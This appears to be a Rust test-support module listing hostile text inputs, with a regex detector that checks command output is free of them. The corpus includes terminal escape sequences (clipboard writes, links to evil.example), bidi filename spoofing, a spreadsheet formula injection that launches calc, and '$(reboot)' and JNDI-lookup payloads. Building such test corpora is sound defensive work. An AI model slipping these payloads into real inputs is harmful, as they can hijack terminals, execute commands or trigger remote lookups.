//! What somebody could put into a text to drive a terminal, to hide, or to turn a line around; and what of it
//! must never come out.

use std::sync::LazyLock;

use regex::Regex;

/// Texts that do something to whoever shows them as they are.
pub const TRICKS: [&str; 26] = [
    // The window's title, the clipboard, a link, a picture, a command of the terminal multiplexer.
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]2;owned\u{1b}\\",
    "\u{1b}]52;c;b3duZWQ=\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\here\u{1b}]8;;\u{1b}\\",
    "\u{1b}Pq#0;2;0;0;0\u{1b}\\",
    "\u{1b}_Gf=100;AAAA\u{1b}\\",
    "\u{1b}^owned\u{1b}\\",
    "\u{1b}Xowned\u{1b}\\",
    "\u{1b}kowned\u{1b}\\",
    // The cursor, the screen, what is typed next, the keyboard, everything.
    "\u{1b}[6n\u{1b}[c\u{1b}[21t",
    "\u{1b}[2J\u{1b}[3J\u{1b}[?1049l\u{1b}[?1000l\u{1b}[?25h",
    "\u{1b}[31337;41m\u{1b}(0\u{e}",
    "\u{1b}c\u{1b}#8",
    // The same in one byte each.
    "\u{9b}31m\u{9d}0;owned\u{9c}\u{90}q\u{9c}\u{85}\u{84}\u{8d}",
    "\u{0}\u{8}\u{b}\u{c}\u{7f}\u{5}",
    "a\tb",
    // Lines turned around, and what nobody sees.
    "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}txt.exe",
    "\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
    "zero\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}width",
    "\u{2028}\u{2029}",
    "\u{fff9}\u{fffa}\u{fffb}\u{206a}\u{206f}\u{1d173}\u{1d17a}\u{13430}\u{1bca0}",
    "\u{e0001}\u{e0041}\u{e007f}",
    "\u{3164}\u{ffa0}\u{115f}\u{34f}\u{17b4}\u{180e}",
    "v\u{fe00}\u{fe0f}\u{fe0e}\u{e0100}\u{e01ef}",
    // What others run.
    "=cmd|' /C calc'!A0",
    "$(reboot)`reboot`%s%n${jndi:ldap://evil.example/x}",
];

/// Bytes that are no text: overlong, cut off, beyond the last character, half a pair, and C1 by themselves.
pub const BYTES: [&[u8]; 9] = [
    b"\xc0\x9b31m",
    b"\xc1\x9b",
    b"\xe0\x80\x9b31m",
    b"\xf0\x80\x80\x9b",
    b"\xf4\x90\x80\x80",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xe2\x80",
    b"\x9b31m\x9d0;owned\x9c",
    b"\xff\xfe",
];

/// Escapes in JSON that stand for no character, or for one that does harm.
pub const ESCAPES: [&str; 5] =
    [r"\r\n\u0085", r"\ud800", r"\udc9b\ud83d", r"\u001b]0;owned\u0007", r"\u202e\u009b31m\u0000"];

/// References in XML to characters that do harm, or that are none.
pub const REFERENCES: [&str; 6] =
    ["&#13;&#10;&#133;", "&#27;]0;owned&#7;", "&#x9b;31m", "&#x202e;", "&#xd800;", "&#0;"];

/// All of the tricks, one after the other.
pub fn all_tricks() -> String {
    TRICKS.join(" ")
}

/// What has no business on a screen: controls, what turns lines around, what nobody sees. Joiners are letters of
/// some scripts, and selectors choose among forms of one; a few of them are no harm, and many are.
static HARM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x) [[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]
               --[\n\u{200C}\u{200D}\p{Variation_Selector}\p{Prepended_Concatenation_Mark}]]",
    )
    .unwrap()
});

/// What is drawn with the letter before it.
static MARKS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[\p{M}\u{200C}\u{200D}]+").unwrap());

/// The first thing in a text that does harm, with what is around it.
pub fn harm(text: &str) -> Option<String> {
    let is_plain = |byte: u8| byte == b'\n' || (b' '..b'\x7f').contains(&byte);
    if text.bytes().all(is_plain) {
        return None;
    }
    let mut marks = MARKS.find_iter(text);
    let found = HARM.find(text).or_else(|| marks.find(|run| run.as_str().chars().count() > 30))?;
    let from = text[..found.start()].char_indices().rev().nth(30).map_or(0, |(at, _)| at);
    let shown: String = text[from..].chars().take(60).collect();
    Some(format!("{:?} in {shown:?}", found.as_str().chars().next()))
}

/// What a command printed: text, and nothing in it that does harm.
pub fn assert_harmless(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|error| panic!("{what}: it is not UTF-8: {error}"));
    // Rows of CSV end in two characters.
    if let Some(harm) = harm(&text.replace("\r\n", "\n")) {
        panic!("{what}: {harm}");
    }
}

#[test]
fn the_corpus_is_harm_and_names_of_every_script_are_none() {
    for trick in TRICKS.iter().filter(|trick| !trick.contains("reboot") && !trick.contains("calc")) {
        let is_few = trick.starts_with('v');
        assert_eq!(harm(trick).is_some(), !is_few, "{trick:?}");
    }
    assert!(harm(&format!("a{}", "\u{301}".repeat(31))).is_some());
    for name in [
        "商汤科技",
        "شركة",
        "नम\u{200d}स्ते",
        "می\u{200c}خواهم",
        "葛\u{e0100}城",
        "e\u{301}\u{323}\n",
        "❤\u{fe0f}",
    ] {
        assert_eq!(harm(name), None, "{name}");
    }
}
